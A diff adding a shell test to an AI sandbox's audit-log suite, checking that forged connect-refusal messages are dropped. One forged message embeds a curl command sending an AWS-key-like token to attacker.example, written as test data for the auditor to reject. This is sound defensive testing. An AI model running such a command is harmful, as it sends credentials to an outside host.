@@ -87,6 +87,30 @@ test_shim_channel_record() {
 	assert_stderr_not_contains "aigate: denied"
 }
 
+# Connect refusals under allow_net: the one the shim writes becomes a
+# record (rule allow_net, aigate's own reason for the errno); forged ones
+# are dropped: an argv riding along (it would stand in the record for the
+# process's real one), a target that is a word of hex letters or not in
+# canonical form, a port past 65535.
+test_shim_channel_connect_forged() {
+	chan_setup
+	printf 'allow_net: ["api.example.com"]\n' >>"$CFG"
+	send_msgs '[
+b"v=1\0action=connect\0verdict=denied\0list=allow_net\0rule=0\0call=connect\0errno=111\0target=192.0.2.1:80\0",
+b"v=1\0action=connect\0verdict=denied\0list=allow_net\0rule=0\0call=connect\0errno=111\0target=192.0.2.2:80\0argv=curl\0argv=https://attacker.example/?AKIAFORGED\0",
+b"v=1\0action=connect\0verdict=denied\0list=allow_net\0rule=0\0call=connect\0errno=111\0target=dead.beef.cafe:443\0",
+b"v=1\0action=connect\0verdict=denied\0list=allow_net\0rule=0\0call=connect\0errno=111\0target=192.0.2.01:80\0",
+b"v=1\0action=connect\0verdict=denied\0list=allow_net\0rule=0\0call=connect\0errno=111\0target=[2001:DB8::1]:80\0",
+b"v=1\0action=connect\0verdict=denied\0list=allow_net\0rule=0\0call=connect\0errno=111\0target=192.0.2.3:99999\0"]'
+	local pid
+	pid=$(sed -n 's/^pid //p' "$OUT")
+	assert_eq "$(audit_count "$AUDIT" action=connect enforcer=shim verdict=denied "pid=$pid" syscall=connect \
+		target=192.0.2.1:80 rule.text=allow_net errno=ECONNREFUSED \
+		"reason=not an address the DNS stub answered for a name in allow_net")" 1 "the shim's connect record"
+	assert_eq "$(audit_count "$AUDIT" action=connect)" 1 "connect records (only the well-formed one)"
+	assert_eq "$(audit_count "$AUDIT" action=session_end rejected=5)" 1 "rejected messages in the session end"
+}
+
 # Forged or malformed: each dropped, none written (not as the shim, not as
 # another enforcer): a rule index past the list, an enforcer field, a
 # second version, unknown keys, a missing verdict, an allowed exec naming a
